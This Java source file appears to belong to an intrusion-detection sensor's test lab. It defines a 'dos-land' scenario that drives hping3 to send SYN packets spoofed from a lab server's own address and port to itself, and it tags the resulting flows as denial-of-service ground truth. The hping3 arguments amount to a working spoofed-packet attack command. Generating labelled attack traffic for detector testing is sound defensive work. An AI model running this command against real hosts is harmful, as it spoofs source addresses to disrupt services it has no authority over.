package gatewatch.sensor.lab.scenario.attack;

import gatewatch.features.truth.FlowPattern;
import gatewatch.features.truth.Proto;
import gatewatch.features.truth.TruthCategory;
import gatewatch.sensor.lab.scenario.LabRun;
import gatewatch.sensor.lab.scenario.Scenario;
import gatewatch.sensor.lab.scenario.Tool;
import java.time.Duration;
import java.util.List;

/**
 * Land: hping3 sends SYNs whose source address and port are the destination's own (the server,
 * to itself), a few to each of ports {@link #PORTS}; dos/land. Only the SYNs cross the capture:
 * the server's kernel drops packets from its own address that arrive from outside (or answers
 * itself locally). A handful of packets, as the attack needs.
 */
public final class DosLand implements Scenario {
    public static final List<Integer> PORTS = List.of(23, 80, 139, 443);
    public static final int PACKETS_PER_PORT = 5;

    @Override
    public String name() {
        return "dos-land";
    }

    @Override
    public String summary() {
        return "dos/land: hping3 SYNs from the server's own address and port to itself, ports " + PORTS;
    }

    @Override
    public List<Tool> tools() {
        return List.of(AttackTools.HPING3);
    }

    @Override
    public void run(LabRun lab) throws Exception {
        String server = lab.net().server();
        lab.label(FlowPattern.of(Proto.TCP, server, server), TruthCategory.DOS, "land");
        long sent = 0;
        for (int port : PORTS) {
            lab.pause(Duration.ofMillis(300), Duration.ofMillis(1000));
            String p = Integer.toString(port);
            sent += Hping.run(lab, "land-" + port, Duration.ofSeconds(30), List.of("-q", "-S", "-a", server, "-s", p, "-k", "-p", p,
                    "-c", Integer.toString(PACKETS_PER_PORT), "-i", "u200000", server)).transmitted();
        }
        lab.report("syns_sent", sent);
        lab.report("ports", PORTS.size());
    }
}
